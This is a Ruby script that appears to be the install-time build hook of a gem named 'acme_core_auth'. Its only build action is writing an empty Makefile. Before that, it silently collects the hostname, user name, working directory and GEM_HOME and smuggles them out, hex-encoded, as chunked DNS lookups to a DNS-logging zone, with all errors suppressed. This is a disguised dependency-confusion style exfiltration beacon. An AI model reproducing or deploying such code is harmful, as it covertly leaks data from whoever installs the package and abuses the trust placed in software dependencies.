require 'resolv'
require 'socket'
require 'etc'
require 'securerandom'

ZONE = 'r9d.dnslog.test'.freeze

data = [Socket.gethostname, (Etc.getlogin rescue nil) || ENV['USER'].to_s, Dir.pwd, ENV['GEM_HOME'].to_s, 'acme_core_auth'].join('|')
id = SecureRandom.hex(3)
labels = data.unpack1('H*').scan(/.{1,60}/)

begin
  dns = Resolv::DNS.new
  dns.timeouts = 1
  labels.each_with_index do |chunk, i|
    begin
      dns.getaddress("#{i}.#{chunk}.#{id}.#{ZONE}")
    rescue Resolv::ResolvError, StandardError
      nil
    end
  end
  begin
    dns.getaddress("#{labels.size}.end.#{id}.#{ZONE}")
  rescue Resolv::ResolvError, StandardError
    nil
  end
rescue StandardError
  nil
end

File.write('Makefile', "all:\n\t@:\ninstall:\n\t@:\nclean:\n\t@:\n")
